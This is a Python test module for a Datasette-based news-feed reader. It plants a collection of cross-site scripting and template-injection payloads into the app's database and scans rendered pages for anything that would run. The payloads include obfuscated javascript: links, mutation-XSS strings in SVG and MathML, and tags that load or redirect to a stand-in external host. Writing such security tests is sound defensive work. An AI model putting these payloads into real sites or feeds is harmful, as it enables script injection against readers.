"""What a hostile feed publishes to run in a reader's browser, and what would run in a page."""

from __future__ import annotations

import sqlite3
from collections.abc import Sequence
from contextlib import closing
from pathlib import Path

from selectolax.lexbor import LexborHTMLParser

EVIL = "https://e.example/x"
PAYLOADS = (
    # a link that runs: plain, spelt in entities, split, coded, in other schemes
    '<a href="javascript:alert(1)">x</a>', '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="java&#9;script:alert(1)">x</a>', '<a href=" &#14; javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>', '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>', "javascript:alert(1)", 'https://e.example/"onclick=alert(1)//',
    # scripts and what loads them
    "<script>alert(1)</script>", f"<script src={EVIL}></script>", "</script><script>alert(1)//",
    "<scr<script>ipt>alert(1)</scr</script>ipt>", "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>", "<noscript><p title='</noscript><script>alert(1)</script>'>",
    # comments that a browser ends sooner than a cleaner
    "<!--><img src=x onerror=alert(1)>-->", "<!--!><script>alert(1)</script>", "<![CDATA[<script>alert(1)</script>]]>",
    "<?php <img src=x onerror=alert(1)> ?>",
    # events, closed and not
    "<img src=x onerror=alert(1)>", "<img src=x onerror=alert(1)//", "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>", "<input autofocus onfocus=alert(1)>", '" onmouseover="alert(1)',
    "' onmouseover='alert(1)", "<video><source onerror=alert(1)></video>",
    # SVG and MathML
    "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>",
    "<svg><a><set attributeName=href to=javascript:alert(1)></set></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x>", "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    # what asks others, or sends elsewhere
    f"<img src={EVIL}>", f"<iframe src={EVIL}></iframe>", f"<form action={EVIL}><button>x</button></form>",
    f"<meta http-equiv=refresh content='0;url={EVIL}'>", f"<base href={EVIL}>", f"<link rel=stylesheet href={EVIL}>",
    f"<style>@import '{EVIL}'</style>", f"<object data={EVIL}></object>", f"<embed src={EVIL}>",
    # templates
    "{{ 7*7 }}", "{% raw %}<script>alert(1)</script>", "${alert(1)}",
)  # fmt: skip


# Inert between two tags by themselves: they act in an attribute, a template, or what a cleaner that
# takes something out makes of them.
INERT = (
    "javascript:", 'https://e.example/"', '" onmouse', "' onmouse", "{{", "${", "<svg><style>",
    "<scr<", "<!--!>", "<?php", "<math>", "<style", "<![CDATA", "<form", "<noscript",
)  # fmt: skip


def plant(path: Path, payloads: Sequence[str] = PAYLOADS) -> None:
    """Every payload as title, text, address, author, feed name, entity, revision and more."""
    with closing(sqlite3.connect(path)) as db, db:
        template = db.execute("SELECT * FROM items WHERE id = 1").fetchone()
        columns = [c[1] for c in db.execute("PRAGMA table_info(items)")]
        db.execute("UPDATE feeds SET name = ?, health_note = ?", (payloads[9], payloads[20]))
        db.execute("UPDATE entities SET name = ? WHERE id = 'arin-dam'", (payloads[9],))
        db.execute("UPDATE mentions SET surface = ?, alias = ?, snippet = ?", payloads[20:23])
        for number, payload in enumerate(payloads, 1000):
            values = dict(zip(columns, template, strict=True)) | {
                "id": number, "url": payload, "guid": payload, "title": payload, "text": payload,
                "author": payload, "published_raw": payload, "why": payload, "url_key": f"k{number}",
                "relation": "copy", "of_item": 1,
            }  # fmt: skip
            names = ", ".join(values)
            marks = ", ".join("?" * len(values))
            db.execute(f"INSERT INTO items ({names}) VALUES ({marks})", tuple(values.values()))
        db.execute("UPDATE stories SET title = ?", (payloads[9],))
        db.execute("UPDATE items SET title = ?, text = ? WHERE id = 1", (payloads[9], payloads[20]))
        db.execute(
            "INSERT INTO articles (item, feed, url, host, state, baseline, attempts, hops, text, "
            "chars, why) SELECT id, feed, url, url, 'fetched', 0, 1, 0, text, 0, title FROM items"
        )
        every = "\n".join(payloads)
        db.execute("UPDATE articles SET text = ? WHERE item = 1", (every,))
        db.execute("UPDATE articles SET state = 'failed', text = '' WHERE item = 2")
        db.execute("UPDATE articles SET why = ? WHERE item = 2", (payloads[9],))


def active(page: str, nonce: str = "") -> list[str]:
    """What would run, or ask others, in a parse as browsers do it."""
    found = []
    for node in LexborHTMLParser(page).css("*"):
        attributes = {k.lower(): (v or "") for k, v in node.attributes.items()}
        if node.tag == "script" and not _own_script(attributes, nonce):
            found.append(node.html or "")
        if node.tag in {"iframe", "object", "embed", "base", "set", "animate", "frame"}:
            found.append(node.html or "")
        if node.tag == "meta" and attributes.get("http-equiv", "").lower() == "refresh":
            found.append(node.html or "")
        handlers = [k for k in attributes if k.startswith("on")]
        if handlers and attributes.get("onclick") != "openColumnChooser()":  # Datasette 1.0's own
            found.append(f"{node.tag} {handlers}")
        found += [
            f"{node.tag} {value}" for value in _loaded(node.tag, attributes) if _foreign(value)
        ]
        link = "".join(c for c in attributes.get("href", "") if c > " ").lower()
        if link.startswith(("javascript:", "data:", "vbscript:")):
            found.append(link)
    return found


def _own_script(attributes: dict[str, str], nonce: str) -> bool:
    if "src" in attributes:
        return attributes["src"].startswith("/-/")
    return bool(nonce) and attributes.get("nonce") == nonce


def _loaded(tag: str, attributes: dict[str, str]) -> list[str]:
    names = {"src", "action", "formaction", "poster", "srcset", "data"}
    loads = [attributes[name] for name in names if name in attributes]
    rel = attributes.get("rel", "")
    return loads + ([attributes.get("href", "")] if tag == "link" and rel == "stylesheet" else [])


def _foreign(value: str) -> bool:
    return "e.example" in value or value == "x"


def nonce_of(policy: str) -> str:
    return policy.partition("'nonce-")[2].partition("'")[0]


PAGES = (
    "/wirewatch", "/wirewatch/items?_size=max", "/wirewatch/items?_facet=author&_size=max",
    "/wirewatch/articles?_size=max", "/-/desk/story/2",
    "/wirewatch/stories", "/wirewatch/feeds", "/wirewatch/entities", "/wirewatch/mentions",
    "/wirewatch/named_items", "/wirewatch/named_stories", "/reviews/decisions",
    "/wirewatch/items?title=" + "%3Cscript%3Ealert(1)%3C/script%3E",
    "/wirewatch?sql=select+title,url+from+items", "/wirewatch/new_on_entity?entity=arin-dam&since=",
    "/wirewatch/%3Cscript%3E", "/-/desk/decide/%3Cimg%20src=x%20onerror=alert(1)%3E",
    "/-/desk?state=all", "/-/desk/story/1", "/-/desk/entities", "/-/desk/entity/arin-dam",
    "/-/desk/overview", "/-/desk/sources", "/-/desk/source/1", "/-/desk/watchlist",
    "/-/desk/login?next=%22%3E%3Cscript%3E",
)  # fmt: skip
